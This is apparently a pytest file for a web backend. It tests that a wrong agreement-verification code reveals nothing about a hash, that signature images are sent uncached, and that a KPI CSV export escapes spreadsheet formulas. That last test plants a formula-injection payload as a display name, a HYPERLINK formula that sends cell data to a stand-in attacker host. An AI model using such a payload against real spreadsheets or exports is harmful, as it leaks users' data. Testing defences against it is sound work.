"""What the public agreement check answers, and how personal images are cached."""
from backend.consoles.agreements import verification_code


def test_a_wrong_code_reveals_nothing_about_the_hash(client, world):
    signed_hash = world.plan.terms_hash
    never_seen = "ab" * 32
    code = verification_code(signed_hash)
    wrong = "0000-0000" if code != "0000-0000" else "1111-1111"
    answers = [client.get(f"/api/agreements/verify?code={wrong}&hash={h}").get_json() for h in (signed_hash, never_seen)]
    # the same answer whether or not the hash was ever signed (only the echoed hash differs)
    assert [{k: v for k, v in a.items() if k != "terms_hash"} for a in answers] == [{"valid": False}] * 2
    # the right code still tells the signed state
    ok = client.get(f"/api/agreements/verify?code={code}&hash={signed_hash}").get_json()
    assert ok == {"valid": True, "terms_hash": signed_hash, "signed": True}


def test_signature_images_are_not_kept_by_caches(client, world, auth):
    from backend.plans.models import Signature

    signature = Signature.query.filter_by(plan_id=world.plan.id).first()
    response = client.get(f"/api/blobs/{signature.blob_sha256}", headers=auth(world.owner, password=world.password))
    assert response.status_code == 200 and response.data
    assert response.headers["Cache-Control"] == "private, no-store"


def test_the_kpi_csv_neutralises_formulas_in_names(client, world, auth, db):
    import csv
    import io

    world.agent_user.display_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    db.session.commit()
    response = client.get("/api/kpis.csv", headers=auth(world.owner, password=world.password))
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0]["agent"] == "'" + world.agent_user.display_name
    assert rows[1]["assigned"] == "3"  # numbers stay numbers
